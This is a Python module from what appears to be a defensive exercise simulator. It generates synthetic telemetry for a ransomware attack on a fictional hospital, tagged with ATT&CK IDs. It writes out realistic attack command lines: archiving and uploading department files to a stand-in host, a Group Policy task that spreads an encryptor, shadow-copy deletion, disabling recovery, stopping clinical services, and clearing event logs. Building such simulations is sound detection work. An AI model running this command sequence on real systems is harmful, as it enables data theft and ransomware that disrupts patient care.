"""Steps 10 to 13: files are taken, a policy brings the encryptor everywhere, and the logs are cleared."""

from __future__ import annotations

from functools import partial
from random import Random

from carecordon.exercise import acts
from carecordon.exercise.hospital import Hospital
from carecordon.exercise.intrusion.steps import LOOT, POLICY, RUIN, TRACKS, Intrusion, shell, there, typed
from carecordon.exercise.names import Kit
from carecordon.exercise.ruin import Ruin, encrypt
from carecordon.exercise.stage import Script
from carecordon.exercise.telemetry import directory, logons, processes, traces, upkeep
from carecordon.exercise.telemetry.logons import Manner
from carecordon.exercise.telemetry.programs import POWERSHELL, SYSTEM32, facts_of, made_of
from carecordon.exercise.telemetry.sensor import Process, Sensor
from carecordon.exercise.world import ZONE, Person, Work

POLICY_ID = "{9A2D4E61-3C7B-4F58-8E10-6B5D2C9F7A34}"
POLICIES = f"C:\\Windows\\SYSVOL\\sysvol\\{ZONE}\\Policies\\{POLICY_ID}\\"
TASKS = "Machine\\Preferences\\ScheduledTasks\\ScheduledTasks.xml"
STOPPED = {
    "wph-epr01": ("Example EPR Server", "Example EPR Interface"),
    "wph-bak01": ("Example Backup Server",),
    "wph-lims01": ("Example LIMS",),
}


def loot(plan: Intrusion) -> Script:
    """Pack the departments' folders on the file server, and send them outside."""
    server, kit, run = plan.hospital.files, plan.kit, there(plan.on_files)
    packing = server.marked(LOOT.mark("T1560.001"))
    tool = "C:\\ProgramData\\7z.exe"
    traces.create(packing, run, tool)
    for folder in ("Finance", "Governance", "Radiology"):
        path = f"C:\\ProgramData\\{folder[:3].lower()}.7z"
        line = f"{tool} a -p{kit.password} -mhe=on {path} D:\\Shared\\{folder}"
        process = processes.start(packing, run, tool, line, facts=facts_of("7z.exe"))
        yield 40 + plan.rng.random() * 60
        traces.create(packing, process, path)
        processes.end(packing, process)
    sending = server.marked(LOOT.mark("T1567.002"))
    path = f"C:\\ProgramData\\{kit.uploader}"
    traces.create(sending, run, path)
    line = f"{path} copy C:\\ProgramData {kit.store} --include *.7z --config C:\\ProgramData\\u.conf --transfers 8"
    process = processes.start(sending, run, path, line, facts=made_of(f"uploader:{kit}"))
    address = acts.address_of("store.files-drop.example.net")
    traces.ask(sending, process, "store.files-drop.example.net", address)
    for _ in range(24):
        traces.connect(sending, process, address, 443, host="store.files-drop.example.net")
        yield 3 + plan.rng.random() * 8
    processes.end(sending, process)


def ruin(plan: Intrusion) -> Script:
    """Write the policy; every device carries it out at its next look, some minutes apart; then the logs go."""
    yield from _write_policy(plan)
    hospital, rng = plan.hospital, plan.rng
    targets = [*hospital.of_work(Work.OFFICE, Work.WARD, Work.IMAGING, Work.SERVER), plan.hospital.controller.device]
    for device in targets:
        own = hospital.rng("hands_on", device.name)
        hospital.stage.begin(
            _carry_out(hospital, hospital.sensors[device.name], plan.kit, own), 20 + rng.random() * 240
        )
    yield 330.0
    for name in ("wph-dc01", "wph-fs01", "wph-epr01"):
        yield from _clear(plan, hospital.sensor(name))


def _write_policy(plan: Intrusion) -> Script:
    dc, kit, run = plan.hospital.controller, plan.kit, there(plan.on_controller)
    view = dc.marked(POLICY.mark("T1484.001"))
    line = (
        f"powershell.exe -NoProfile -Command New-GPO -Name '{kit.task}' | New-GPLink -Target 'dc=wph,dc=example,dc=org'"
    )
    process = processes.start(view, run, POWERSHELL, line)
    yield 1.0
    upkeep.run_script(view, process, line.partition("-Command ")[2])
    traces.create(view, process, f"{POLICIES}GPT.INI")
    traces.create(view, process, POLICIES + TASKS)
    traces.create(view, process, f"C:\\Windows\\SYSVOL\\sysvol\\{ZONE}\\scripts\\{kit.encryptor}")
    target = f"CN={POLICY_ID},CN=Policies,CN=System,DC=wph,DC=example,DC=org"
    extensions = "[{AADCED64-746C-4633-A97C-D61349046527}{CAB54552-DEEA-4691-817E-ED4A4D1AFC72}]"
    directory.change_directory(view, run.session, target, "gPCMachineExtensionNames", extensions)
    directory.change_directory(view, run.session, target, "versionNumber", "3")
    directory.use_share(view, run.session, "SYSVOL", "127.0.0.1", f"{ZONE}\\Policies\\{POLICY_ID}\\{TASKS}", "0x13019f")
    yield 3.0
    processes.end(view, process)


def _carry_out(hospital: Hospital, on: Sensor, kit: Kit, rng: Random) -> Script:
    """One device takes the policy, whose task starts the encryptor.

    That it connects and logs on to ask for policies is of every day; what it is given is the attack's.
    """
    if "svchost:gpsvc" not in on.state.roots:
        return
    dc, brought = hospital.controller, on.marked(POLICY.mark("T1484.001", "T1053.005"))
    client, scheduler = on.state.roots["svchost:gpsvc"], on.state.roots["svchost:netsvcs"]
    traces.connect(on, on.state.roots["System"], dc.device.address, 445, host=dc.name)
    machine = Person(f"{on.device.name.upper()}$", 1900 + int(on.device.address.rpartition(".")[2]), "")
    view = dc.marked(POLICY.mark("T1484.001"))
    session = logons.log_on(dc, machine, Manner(3, on.device.address))
    directory.use_share(view, session, "SYSVOL", on.device.address, f"{ZONE}\\Policies\\{POLICY_ID}\\{TASKS}")
    logons.log_off(dc, session, 3)
    path = f"C:\\ProgramData\\{kit.encryptor}"
    yield 1.0
    history = f"C:\\ProgramData\\Microsoft\\Group Policy\\History\\{POLICY_ID}\\{TASKS}"
    traces.create(brought, client, history)
    traces.create(brought, client, path)
    task = on.marked(POLICY.mark("T1053.005"))
    upkeep.register_task(task, client.session, f"\\{kit.task}", path, "/quiet", "NT AUTHORITY\\SYSTEM")
    yield 1.5
    upkeep.start_task(task, f"\\{kit.task}", path)
    program = processes.start(
        task, scheduler, path, f'"{path}" /quiet', directory=SYSTEM32, facts=made_of(f"encryptor:{kit}")
    )
    processes.load(on.marked(RUIN.mark("T1486")), program, SYSTEM32 + "RstrtMgr.dll")
    yield 1.0
    yield from _hold(hospital, on, program, kit, rng)


def _hold(hospital: Hospital, on: Sensor, program: Process, kit: Kit, rng: Random) -> Script:
    """No way back, services stopped where care hangs on them, files encrypted."""
    gone = on.marked(RUIN.mark("T1490"))
    for tool, line in (
        ("vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        ("wbem\\WMIC.exe", "wmic.exe shadowcopy delete /nointeractive"),
        ("bcdedit.exe", "bcdedit.exe /set {default} recoveryenabled no"),
    ):
        processes.end(gone, processes.start(gone, program, SYSTEM32 + tool, line))
        yield 0.4
    halted = on.marked(RUIN.mark("T1489"))
    for service in STOPPED.get(on.device.name, ()):
        stop = partial(upkeep.change_service, halted, service, "stopped")
        yield from typed(halted, program, "net.exe", f'net stop "{service}" /y', rng, stop)
    desk = hospital.desks.get(on.device.name)
    home = (
        "D:\\Shared\\"
        if on.device.is_server
        else f"C:\\Users\\{desk.person.account if desk else 'Public'}\\Documents\\"
    )
    view = on.marked(RUIN.mark("T1486"))
    yield from encrypt(view, view, program, Ruin(home, kit.ending, kit.note, rng.randrange(105, 150)), rng)
    hospital.lose(on.device)


def _clear(plan: Intrusion, server: Sensor) -> Script:
    """Clear the logs of a server, over its own administrator's remote shell."""
    view = server.marked(TRACKS.mark())
    session = plan.hospital.reach(plan.first.marked(TRACKS.mark()), plan.ruler, view, special=True)
    host = processes.start(view, server.state.roots["svchost:DcomLaunch"], SYSTEM32 + "wsmprovhost.exe",
                           f"{SYSTEM32}wsmprovhost.exe -Embedding", session=session)  # fmt: skip
    run = shell(view, host, "wevtutil cl Security & wevtutil cl System")
    for log in ("System", "Security"):
        process = processes.start(view, run, SYSTEM32 + "wevtutil.exe", f"wevtutil  cl {log}")
        yield 0.4
        if log == "Security":
            upkeep.clear_security(view, session)
        else:
            upkeep.clear_log(view, session, log)
        processes.end(view, process)
    processes.end(view, run)
    yield 5.0
